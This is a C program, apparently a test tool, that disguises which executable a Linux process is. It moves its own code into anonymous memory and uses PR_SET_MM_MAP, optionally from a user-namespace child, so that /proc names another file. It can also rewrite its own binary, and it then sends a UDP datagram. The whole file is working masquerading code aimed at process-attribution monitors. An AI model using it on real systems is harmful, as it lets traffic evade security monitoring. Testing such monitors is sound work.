/*
 * Moves its own code and data to memory without a file, says that another file is its executable (PR_SET_MM_MAP, in a user
 * namespace of its own), prints what /proc says now, and sends a datagram: spoof FILE ADDRESS PORT [TEXT [HOW [GOOD]]].
 *
 * FILE `-`: it stays honest. HOW `lent`: a child in a user namespace says it, with whom this process shares its memory; this
 * process itself keeps its namespaces. HOW `rewritten`: as lent, but first of FILE, then GOOD is copied into its own file, and
 * then of that file, so that it runs what its file does not hold any more.
 */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <errno.h>
#include <fcntl.h>
#include <linux/prctl.h>
#include <sched.h>
#include <poll.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/prctl.h>
#include <sys/socket.h>
#include <sys/wait.h>
#include <unistd.h>

#define MAX_AREAS 32
#define MAX_FIELDS 64
#define STACK_BYTES 65536
#define LOOKED_AT_MS 1000

struct area {
	unsigned long start, end;
	int rights;
};

static void executable(char *path, size_t size)
{
	ssize_t length = readlink("/proc/self/exe", path, size - 1);

	path[length < 0 ? 0 : length] = 0;
}

/* The same bytes at the same place, so that it goes on running meanwhile. */
static void leave_file(const char *path)
{
	struct area areas[MAX_AREAS];
	FILE *maps = fopen("/proc/self/maps", "r");
	char line[512], rights[8];
	int count = 0;

	while (maps && count < MAX_AREAS && fgets(line, sizeof(line), maps)) {
		struct area *area = &areas[count];

		if (!strstr(line, path) || sscanf(line, "%lx-%lx %7s", &area->start, &area->end, rights) != 3)
			continue;
		area->rights = (rights[0] == 'r' ? PROT_READ : 0) | (rights[1] == 'w' ? PROT_WRITE : 0) | (rights[2] == 'x' ? PROT_EXEC : 0);
		count++;
	}
	for (int i = 0; i < count; i++) {
		size_t size = areas[i].end - areas[i].start;
		void *copy = mmap(0, size, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);

		memcpy(copy, (void *)areas[i].start, size);
		mprotect(copy, size, areas[i].rights);
		if (mremap(copy, size, size, MREMAP_MAYMOVE | MREMAP_FIXED, (void *)areas[i].start) == MAP_FAILED)
			exit(errno);
	}
}

/* Fields as proc(5) numbers them; the command in parentheses is the second. */
static void read_stat(unsigned long *fields)
{
	int file = open("/proc/self/stat", O_RDONLY), number = 3;
	char text[2048];
	ssize_t length = read(file, text, sizeof(text) - 1);

	text[length < 0 ? 0 : length] = 0;
	for (char *word = strtok(strrchr(text, ')') + 2, " "); word && number < MAX_FIELDS; word = strtok(0, " "))
		fields[number++] = strtoul(word, 0, 10);
}

static int claim(const char *path)
{
	unsigned long stat[MAX_FIELDS] = {0};
	struct prctl_mm_map map = {.exe_fd = open(path, O_RDONLY)};

	read_stat(stat);
	map.start_code = stat[26];
	map.end_code = stat[27];
	map.start_stack = stat[28];
	map.start_data = stat[45];
	map.end_data = stat[46];
	map.start_brk = stat[47];
	map.brk = (unsigned long)sbrk(0);
	map.arg_start = stat[48];
	map.arg_end = stat[49];
	map.env_start = stat[50];
	map.env_end = stat[51];
	return prctl(PR_SET_MM, PR_SET_MM_MAP, &map, sizeof(map), 0);
}

static int claim_in_child(void *path)
{
	_exit(claim(path) ? errno : 0);
}

/* The right to say it comes from the caller's user namespace, the memory that it is said of is the parent's too. */
static void claim_lent(const char *path)
{
	static char stack[STACK_BYTES] __attribute__((aligned(16)));
	int status = 0;
	pid_t child = clone(claim_in_child, stack + STACK_BYTES, CLONE_VM | CLONE_VFORK | CLONE_NEWUSER | SIGCHLD, (void *)path);

	if (child < 0 || waitpid(child, &status, 0) < 0 || status)
		printf("not claimed: %d %d\n", errno, status);
}

static void copy_into(const char *to, const char *from)
{
	int source = open(from, O_RDONLY), target = open(to, O_WRONLY | O_TRUNC);
	char buffer[4096];
	ssize_t length;

	if (target < 0)
		perror(to);
	while ((length = read(source, buffer, sizeof(buffer))) > 0)
		if (write(target, buffer, length) != length)
			perror(to);
	close(source);
	close(target);
}

static void disguise(const char *own, int count, char **arguments)
{
	const char *file = arguments[1], *how = count > 5 ? arguments[5] : "";

	leave_file(own);
	if (!*how && claim(file))
		perror("prctl");
	if (*how)
		claim_lent(file);
	if (!strcmp(how, "rewritten") && count > 6) {
		copy_into(own, arguments[6]);
		claim_lent(own);
	}
}

int main(int count, char **arguments)
{
	const char *text = count > 4 ? arguments[4] : "x";
	struct sockaddr_in to = {.sin_family = AF_INET};
	char path[512];

	if (count < 4)
		return EINVAL;
	executable(path, sizeof(path));
	if (strcmp(arguments[1], "-"))
		disguise(path, count, arguments);
	executable(path, sizeof(path));
	puts(path);
	fflush(stdout);
	inet_pton(AF_INET, arguments[2], &to.sin_addr);
	to.sin_port = htons(atoi(arguments[3]));
	if (sendto(socket(AF_INET, SOCK_DGRAM, 0), text, strlen(text), 0, (struct sockaddr *)&to, sizeof(to)) < 0)
		return errno;
	/* Who it is can be looked up while it is there. */
	if (count > 5)
		poll(0, 0, LOOKED_AT_MS);
	return 0;
}
